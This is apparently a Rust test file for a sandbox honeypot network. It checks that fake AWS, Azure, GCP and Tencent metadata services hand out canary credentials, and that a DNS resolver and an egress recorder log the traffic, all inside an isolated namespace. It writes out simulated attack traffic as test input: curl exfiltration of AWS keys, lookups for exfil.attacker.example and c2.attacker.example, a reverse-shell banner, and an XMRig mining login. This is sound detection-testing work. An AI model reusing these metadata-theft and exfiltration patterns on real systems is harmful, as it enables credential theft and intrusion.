//! The sandbox network with real clients (curl, python3) run inside it: metadata services of four
//! clouds, the resolver and the egress recorder, and the events they produce.
//!
//! Safety: every client runs inside a network namespace this test creates, whose isolation is
//! asserted before anything is sent. Nothing is ever sent from the host namespace.

use std::process::{Command, Output};
use std::sync::Arc;
use std::time::Duration;

use fnwarden_event::{Event, EventKind, FieldRef};
use fnwarden_sandbox::Canaries;
use fnwarden_sandbox::honeypot::{AZURE_IDENTITY_ADDR, Honeypots, IssuedTokens, canaries_in};
use fnwarden_sandbox::netns::{NetError, NetNs};
use tokio::sync::mpsc::{UnboundedReceiver, unbounded_channel};

struct Lab {
    ns: NetNs,
    pots: Honeypots,
    events: UnboundedReceiver<Event>,
    seen: Vec<Event>,
    canaries: Arc<Canaries>,
}

fn netns_names() -> Vec<String> {
    std::fs::read_dir("/run/netns").map(|d| d.flatten().map(|e| e.file_name().to_string_lossy().into_owned()).collect()).unwrap_or_default()
}

/// A fresh, isolated sandbox network with its honeypots; `None` (skipped) without root.
async fn lab() -> Option<Lab> {
    if !nix::unistd::geteuid().is_root() {
        eprintln!("skipping: creating a network namespace needs root");
        return None;
    }
    let ns = NetNs::create().expect("namespace created");
    ns.assert_isolated().expect("the namespace is isolated");
    let canaries = Arc::new(Canaries::new().expect("canaries"));
    let (tx, events) = unbounded_channel();
    let pots = Honeypots::start(&ns, canaries.clone(), tx).await.expect("honeypots start");
    Some(Lab { ns, pots, events, seen: Vec::new(), canaries })
}

impl Lab {
    /// Runs `program args` inside the namespace, with no proxy settings, for at most 30 s.
    async fn run(&self, program: &str, args: &[&str]) -> Output {
        let mut cmd = Command::new(program);
        cmd.args(args);
        for v in ["http_proxy", "https_proxy", "HTTP_PROXY", "HTTPS_PROXY", "ALL_PROXY", "all_proxy"] {
            cmd.env_remove(v);
        }
        self.ns.run_inside(&mut cmd);
        let out = tokio::time::timeout(Duration::from_secs(30), tokio::process::Command::from(cmd).output())
            .await
            .expect("client finishes in time")
            .expect("client runs");
        eprintln!("{program} {args:?} -> {} stderr: {}", out.status, String::from_utf8_lossy(&out.stderr));
        out
    }

    async fn curl(&self, args: &[&str]) -> String {
        let mut all = vec!["-s", "-m", "10", "--noproxy", "*"];
        all.extend_from_slice(args);
        String::from_utf8_lossy(&self.run("curl", &all).await.stdout).into_owned()
    }

    async fn python(&self, script: &str) -> String {
        let out = self.run("python3", &["-c", script]).await;
        assert!(out.status.success(), "python client failed");
        String::from_utf8_lossy(&out.stdout).into_owned()
    }

    /// Stops the honeypots and checks that they let go of the event channel (the consumer's
    /// signal that no more events will come).
    async fn stop(self) {
        let Lab { pots, mut events, .. } = self;
        pots.stop();
        let closed = tokio::time::timeout(Duration::from_secs(5), async { while events.recv().await.is_some() {} }).await;
        assert!(closed.is_ok(), "every honeypot task dropped its sender");
    }

    /// The first event (already seen or arriving within 10 s) that `pred` accepts.
    async fn event(&mut self, what: &str, pred: impl Fn(&Event) -> bool) -> Event {
        if let Some(e) = self.seen.iter().find(|e| pred(e)) {
            return e.clone();
        }
        let deadline = tokio::time::Instant::now() + Duration::from_secs(10);
        loop {
            match tokio::time::timeout_at(deadline, self.events.recv()).await {
                Ok(Some(e)) => {
                    self.seen.push(e.clone());
                    if pred(&e) {
                        return e;
                    }
                }
                _ => panic!("no event {what}; seen: {:#?}", self.seen),
            }
        }
    }
}

fn field(ev: &Event, name: &str) -> String {
    ev.get(&FieldRef::parse(name).expect("known field")).map(|v| v.render()).unwrap_or_default()
}

fn http_path(ev: &Event) -> &str {
    ev.net.as_ref().and_then(|n| n.http.as_ref()).map_or("", |h| h.path.as_str())
}

fn is_http_to(path: &str) -> impl Fn(&Event) -> bool + '_ {
    move |e| e.kind == EventKind::Http && http_path(e) == path
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_namespace_is_closed_and_leaves_nothing_behind() {
    if !nix::unistd::geteuid().is_root() {
        eprintln!("skipping: creating a network namespace needs root");
        return;
    }
    let before = netns_names();
    let ns = NetNs::create().expect("namespace created");
    ns.assert_isolated().expect("the namespace is isolated");
    let ino = nix::sys::stat::fstat(ns.fd()).expect("stat").st_ino;

    // A process started inside really is in it, and sees only lo and fnw0.
    let mut cmd = Command::new("readlink");
    cmd.arg("/proc/self/ns/net");
    let inside = ns.run_inside(&mut cmd).output().expect("readlink runs");
    assert_eq!(String::from_utf8_lossy(&inside.stdout).trim(), format!("net:[{ino}]"));
    let mut cmd = Command::new("ip");
    cmd.args(["-o", "link", "show"]);
    let links = String::from_utf8_lossy(&ns.run_inside(&mut cmd).output().expect("ip runs").stdout).into_owned();
    let names: Vec<&str> = links.lines().filter_map(|l| l.split(": ").nth(1)).collect();
    assert_eq!(names, ["lo", "fnw0"]);

    // Any other device (one that could be a way out) breaks the guarantee. A veth pair with
    // both ends inside, or a bridge where the kernel has no veth, is harmless to add here.
    let added = [&["v0", "type", "veth", "peer", "name", "v1"][..], &["v0", "type", "bridge"]].iter().any(|spec| {
        let mut cmd = Command::new("ip");
        cmd.args(["link", "add"]).args(*spec);
        ns.run_inside(&mut cmd).status().expect("ip runs").success()
    });
    assert!(added, "a second device can be added");
    assert!(matches!(ns.assert_isolated(), Err(NetError::NotIsolated(m)) if m.starts_with("unexpected device v")));

    drop(ns);
    let fds: Vec<String> = std::fs::read_dir("/proc/self/fd")
        .expect("fd list")
        .flatten()
        .filter_map(|e| std::fs::read_link(e.path()).ok())
        .map(|p| p.to_string_lossy().into_owned())
        .collect();
    assert!(!fds.contains(&format!("net:[{ino}]")), "the namespace fd is closed");
    assert_eq!(netns_names(), before, "nothing named in /run/netns");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn aws_metadata_serves_imds_v1_v2_and_container_credentials() {
    let Some(mut lab) = lab().await else { return };
    let c = lab.canaries.clone();
    let base = "http://169.254.169.254/latest/meta-data/iam/security-credentials/";

    // IMDSv1: no session.
    let role = lab.curl(&[base]).await;
    assert_eq!(role, "app-server-role");
    let creds: serde_json::Value = serde_json::from_str(&lab.curl(&[&format!("{base}{role}")]).await).expect("credentials JSON");
    assert_eq!(creds["AccessKeyId"], c.aws_access_key_id.as_str());
    assert_eq!(creds["SecretAccessKey"], c.aws_secret_access_key.as_str());
    assert_eq!(creds["Token"], c.aws_session_token.as_str());
    let v1 = lab.event("IMDSv1 credentials", is_http_to("/latest/meta-data/iam/security-credentials/app-server-role")).await;
    assert_eq!(v1.source, "sandbox-metadata");
    assert_eq!(field(&v1, "fd.sip"), "169.254.169.254");
    assert_eq!(field(&v1, "fd.sport"), "80");
    assert!(field(&v1, "net.http.user_agent").starts_with("curl/"));
    assert!(!field(&v1, "net.http.headers").to_lowercase().contains("x-aws-ec2-metadata-token"));

    // IMDSv2: a session token first, then requests carrying it; a wrong token is refused.
    let script = format!(
        "T=$(curl -s --noproxy '*' -X PUT -H 'X-aws-ec2-metadata-token-ttl-seconds: 60' http://169.254.169.254/latest/api/token) && \
         curl -s --noproxy '*' -H \"X-aws-ec2-metadata-token: $T\" {base}app-server-role && echo && \
         curl -s --noproxy '*' -o /dev/null -w '%{{http_code}}' -H 'X-aws-ec2-metadata-token: forged' {base} && \
         curl -s --noproxy '*' -o /dev/null -w ' %{{http_code}}' -X PUT http://169.254.169.254/latest/api/token"
    );
    let out = String::from_utf8_lossy(&lab.run("sh", &["-c", &script]).await.stdout).into_owned();
    let (json, codes) = out.rsplit_once('\n').expect("two lines");
    let v2: serde_json::Value = serde_json::from_str(json).expect("credentials JSON through IMDSv2");
    assert_eq!(v2["AccessKeyId"], c.aws_access_key_id.as_str());
    assert_eq!(codes, "401 400", "forged token refused, token without TTL refused");
    let put = lab.event("token request", |e| e.kind == EventKind::Http && field(e, "net.http.method") == "PUT").await;
    assert_eq!(http_path(&put), "/latest/api/token");
    lab.event("IMDSv2 credentials with the token header", |e| {
        is_http_to("/latest/meta-data/iam/security-credentials/app-server-role")(e)
            && field(e, "net.http.headers").to_lowercase().contains("x-aws-ec2-metadata-token: aqaea")
    })
    .await;

    // The instance identity document and user data.
    let doc: serde_json::Value =
        serde_json::from_str(&lab.curl(&["http://169.254.169.254/latest/dynamic/instance-identity/document"]).await).expect("document");
    assert_eq!(doc["region"], "us-east-1");
    assert!(lab.curl(&["http://169.254.169.254/latest/user-data"]).await.contains(&c.aws_access_key_id));
    assert_eq!(lab.curl(&["-o", "/dev/null", "-w", "%{http_code}", "http://169.254.169.254/latest/meta-data/nope"]).await, "404");

    // ECS / Lambda container credentials.
    let ecs: serde_json::Value =
        serde_json::from_str(&lab.curl(&["http://169.254.170.2/v2/credentials/6f1c2b3a-any-id"]).await).expect("container credentials");
    assert_eq!(ecs["AccessKeyId"], c.aws_access_key_id.as_str());
    assert_eq!(ecs["Token"], c.aws_session_token.as_str());
    let e = lab.event("container credentials", is_http_to("/v2/credentials/6f1c2b3a-any-id")).await;
    assert_eq!(field(&e, "fd.sip"), "169.254.170.2");
    assert_eq!(lab.pots.stats().metadata_requests, 10);
    lab.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn azure_gcp_and_tencent_metadata_demand_their_headers_and_hand_out_canaries() {
    let Some(mut lab) = lab().await else { return };
    let c = lab.canaries.clone();
    let code = ["-o", "/dev/null", "-w", "%{http_code}"];

    // Azure IMDS: `Metadata: true` required.
    let azure =
        "http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https%3A%2F%2Fmanagement.azure.com%2F";
    assert_eq!(lab.curl(&[&code[..], &[azure]].concat()).await, "400");
    let tok: serde_json::Value = serde_json::from_str(&lab.curl(&["-H", "Metadata: true", azure]).await).expect("Azure token JSON");
    assert_eq!(tok["resource"], "https://management.azure.com/");
    let access = tok["access_token"].as_str().expect("access token");
    assert_eq!(access.split('.').count(), 3, "a JWT");
    assert_eq!(lab.pots.tokens().found_in(access.as_bytes()), ["AZURE_ACCESS_TOKEN"]);
    let inst: serde_json::Value =
        serde_json::from_str(&lab.curl(&["-H", "Metadata: true", "http://169.254.169.254/metadata/instance?api-version=2021-02-01"]).await)
            .expect("instance JSON");
    assert_eq!(inst["compute"]["osType"], "Linux");

    // Azure App Service identity endpoint: the MSI secret is the key.
    let msi = format!("http://{AZURE_IDENTITY_ADDR}/msi/token?resource=https://vault.azure.net&api-version=2019-08-01");
    assert_eq!(lab.curl(&[&code[..], &[msi.as_str()]].concat()).await, "401");
    let header = format!("X-IDENTITY-HEADER: {}", c.azure_msi_secret);
    let tok: serde_json::Value = serde_json::from_str(&lab.curl(&["-H", &header, &msi]).await).expect("MSI token JSON");
    assert_eq!(tok["token_type"], "Bearer");

    // GCP, by name: `Metadata-Flavor: Google` required.
    let gcp = "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token";
    let resolve = "metadata.google.internal:80:169.254.169.254";
    assert_eq!(lab.curl(&[&code[..], &["--resolve", resolve, gcp]].concat()).await, "403");
    let tok: serde_json::Value =
        serde_json::from_str(&lab.curl(&["--resolve", resolve, "-H", "Metadata-Flavor: Google", gcp]).await).expect("GCP token JSON");
    assert_eq!(tok["access_token"], lab.pots.tokens().gcp_access_token());
    let project = lab
        .curl(&[
            "--resolve",
            resolve,
            "-H",
            "Metadata-Flavor: Google",
            "http://metadata.google.internal/computeMetadata/v1/project/project-id",
        ])
        .await;
    assert!(!project.is_empty() && !project.contains('<'));
    let e = lab
        .event("GCP token request", |e| http_path(e).ends_with("/default/token") && field(e, "net.http.headers").contains("Google"))
        .await;
    assert_eq!(field(&e, "fd.rip.name"), "metadata.google.internal");
    assert_eq!(field(&e, "net.http.host"), "metadata.google.internal");

    // Tencent.
    let base = "http://169.254.0.23/latest/meta-data/cam/security-credentials/";
    let role = lab.curl(&[base]).await;
    let tc: serde_json::Value = serde_json::from_str(&lab.curl(&[&format!("{base}{role}")]).await).expect("Tencent credentials JSON");
    assert_eq!(tc["TmpSecretId"], c.tencent_secret_id.as_str());
    assert_eq!(tc["TmpSecretKey"], c.tencent_secret_key.as_str());
    assert_eq!(tc["Token"], lab.pots.tokens().tencent_token());
    let e = lab.event("Tencent credentials", is_http_to(&format!("/latest/meta-data/cam/security-credentials/{role}"))).await;
    assert_eq!(field(&e, "fd.sip"), "169.254.0.23");
}

/// Python: a DNS query for `name`/`qtype` sent to `server` over UDP; prints the answered
/// addresses (A records) and the rcode.
const DNS_CLIENT: &str = r#"
import socket, struct, sys, json
def query(server, name, qtype, tcp=False):
    q = struct.pack(">HHHHHH", 0x1234, 0x0100, 1, 0, 0, 0)
    q += b"".join(bytes([len(l)]) + l.encode() for l in name.split(".")) + b"\0" + struct.pack(">HH", qtype, 1)
    if tcp:
        s = socket.create_connection((server, 53), timeout=5)
        s.sendall(struct.pack(">H", len(q)) + q)
        n = struct.unpack(">H", s.recv(2))[0]
        r = b""
        while len(r) < n:
            r += s.recv(n - len(r))
        s.close()
    else:
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.settimeout(5)
        s.sendto(q, (server, 53))
        r = s.recv(4096)
    ancount = struct.unpack(">H", r[6:8])[0]
    ips = [socket.inet_ntoa(r[-4 * (i + 1):][:4]) for i in range(ancount)] if qtype == 1 else []
    return {"rcode": r[3] & 15, "answers": ips, "ancount": ancount}
"#;

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_resolver_answers_every_name_and_shrugs_off_garbage() {
    let Some(mut lab) = lab().await else { return };
    let script = format!(
        "{DNS_CLIENT}
g = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
g.sendto(b'\\xde\\xad\\xbe\\xef garbage', ('169.254.169.253', 53))
g.sendto(b'', ('169.254.169.253', 53))
print(json.dumps([
  query('169.254.169.253', 'metadata.google.internal', 1),
  query('169.254.169.253', 'metadata.tencentyun.com', 1),
  query('169.254.169.253', 'pool.supportxmr.com', 1),
  query('169.254.169.253', 'pool.supportxmr.com', 28),
  query('8.8.8.8', 'exfil.attacker.example', 1),
  query('169.254.169.253', 'over.tcp.example', 1, tcp=True),
]))"
    );
    let out: serde_json::Value = serde_json::from_str(&lab.python(&script).await).expect("JSON answers");
    assert_eq!(out[0]["answers"], serde_json::json!(["169.254.169.254"]));
    assert_eq!(out[1]["answers"], serde_json::json!(["169.254.0.23"]));
    let pool = out[2]["answers"][0].as_str().expect("an address").to_owned();
    assert!(pool.starts_with("198.18.") || pool.starts_with("198.19."), "{pool}");
    assert_eq!((out[3]["rcode"].as_u64(), out[3]["ancount"].as_u64()), (Some(0), Some(0)), "AAAA: NOERROR, no answer");
    assert_eq!(out[4]["ancount"], 1, "a query to any resolver address is answered");
    assert_eq!(out[5]["ancount"], 1, "DNS over TCP");

    let e = lab.event("dns for the pool", |e| e.kind == EventKind::Dns && field(e, "net.dns.query") == "pool.supportxmr.com").await;
    assert_eq!(e.source, "sandbox-dns");
    assert_eq!(field(&e, "net.dns.qtype"), "A");
    assert_eq!(field(&e, "net.dns.answers"), pool);
    lab.event("AAAA", |e| field(e, "net.dns.query") == "pool.supportxmr.com" && field(e, "net.dns.qtype") == "AAAA").await;
    lab.event("query sent to 8.8.8.8", |e| field(e, "net.dns.query") == "exfil.attacker.example").await;
    lab.event("query over TCP", |e| field(e, "net.dns.query") == "over.tcp.example" && field(e, "fd.l4proto") == "tcp").await;
    let stats = lab.pots.stats();
    assert_eq!(stats.dns_malformed, 2, "{stats:?}");
    assert_eq!(stats.dns_queries, 8, "{stats:?}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_egress_recorder_sees_where_connections_meant_to_go_and_what_they_said() {
    let Some(mut lab) = lab().await else { return };
    let c = lab.canaries.clone();

    // Exfiltration over plain HTTP, with the secret form-encoded.
    let body = format!("id={}&secret={}", c.aws_access_key_id, c.aws_secret_access_key.replace('+', "%2B").replace('/', "%2F"));
    let answer = lab.curl(&["-X", "POST", "-A", "exfil/1.0", "--data", &body, "http://198.51.100.9:8080/collect?src=lambda"]).await;
    assert_eq!(answer, "ok", "the recorder answers HTTP so clients finish");
    let e = lab.event("exfil POST", |e| e.kind == EventKind::Http && e.source == "sandbox-egress").await;
    assert_eq!((field(&e, "fd.sip").as_str(), field(&e, "fd.sport").as_str()), ("198.51.100.9", "8080"), "the original destination");
    assert_eq!(field(&e, "net.http.method"), "POST");
    assert_eq!(field(&e, "net.http.path"), "/collect?src=lambda");
    assert_eq!(field(&e, "net.http.host"), "198.51.100.9:8080");
    assert_eq!(field(&e, "net.http.user_agent"), "exfil/1.0");
    assert!(field(&e, "net.payload").ends_with(&body));
    assert_eq!(canaries_in(&e, &c.finder(), &IssuedTokens::new(&c)), ["AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY"]);

    // A Stratum login, a TLS ClientHello, a reverse shell's banner to a resolved name, garbage.
    let script = format!(
        "{DNS_CLIENT}
import ssl, time
s = socket.create_connection(('203.0.113.7', 4444), timeout=5)
s.sendall(b'{{\"id\":1,\"jsonrpc\":\"2.0\",\"method\":\"login\",\"params\":{{\"login\":\"44AFFq5kSiGBoZ\",\"agent\":\"XMRig/6.21.0\"}}}}\\n')
time.sleep(0.2); s.close()
ctx = ssl.create_default_context()
try:
    ctx.wrap_socket(socket.create_connection(('198.51.100.20', 443), timeout=5), server_hostname='gulf.moneroocean.stream')
except (ssl.SSLError, OSError) as e:
    print('tls failed as expected:', type(e).__name__)
ip = query('169.254.169.253', 'c2.attacker.example', 1)['answers'][0]
s = socket.create_connection((ip, 9001), timeout=5)
s.sendall(b'uid=993(sbx_user1051) gid=990 groups=990\\nsh-5.2$ ')
s.close()
s = socket.create_connection(('192.0.2.1', 31337), timeout=5)
s.sendall(bytes(range(256)))
s.close()
print(ip)"
    );
    let out = lab.python(&script).await;
    let c2_ip = out.lines().last().expect("the resolved address").to_owned();

    let stratum = lab.event("stratum", |e| e.kind == EventKind::Connect && field(e, "fd.sport") == "4444").await;
    assert_eq!(field(&stratum, "fd.sip"), "203.0.113.7");
    assert!(field(&stratum, "net.payload").contains("XMRig/6.21.0"));
    let tls = lab.event("TLS", |e| e.kind == EventKind::Tls).await;
    assert_eq!(field(&tls, "net.tls.sni"), "gulf.moneroocean.stream");
    assert_eq!((field(&tls, "fd.sip").as_str(), field(&tls, "fd.sport").as_str()), ("198.51.100.20", "443"));
    let shell = lab.event("reverse shell banner", |e| e.kind == EventKind::Connect && field(e, "fd.sport") == "9001").await;
    assert_eq!(field(&shell, "fd.sip"), c2_ip);
    assert_eq!(field(&shell, "fd.rip.name"), "c2.attacker.example", "the connection is named by the DNS answer");
    assert!(field(&shell, "net.payload").starts_with("uid=993(sbx_user1051)"));
    let raw = lab.event("garbage", |e| field(e, "fd.sport") == "31337").await;
    assert!(field(&raw, "net.payload").contains('\u{fffd}'), "kept as lossy text");

    // The recorder is still there after the garbage, and counted everything.
    assert_eq!(lab.curl(&["http://192.0.2.1/"]).await, "ok");
    let stats = lab.pots.stats();
    assert_eq!(stats.egress_connections, 6, "{stats:?}");
    assert_eq!(stats.egress_unrecognised, 2, "the shell banner and the garbage: {stats:?}");
    lab.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_flood_of_connections_is_bounded_and_counted() {
    let Some(lab) = lab().await else { return };
    // 300 silent connections held for 2 s: the recorder keeps 256 and closes the rest at once.
    let script = "
import socket, time
held = [socket.create_connection(('203.0.113.9', 1 + i), timeout=5) for i in range(300)]
time.sleep(2)
closed = 0
for s in held:
    s.setblocking(False)
    try:
        closed += s.recv(1) == b''
    except ConnectionResetError:
        closed += 1
    except BlockingIOError:
        pass
print(closed)";
    let closed: u64 = lab.python(script).await.trim().parse().expect("a count");
    let stats = lab.pots.stats();
    assert_eq!(stats.egress_connections, 300, "{stats:?}");
    assert_eq!(stats.egress_refused, 44, "{stats:?}");
    assert_eq!(closed, 44, "the refused ones were closed");
    lab.stop().await;
}
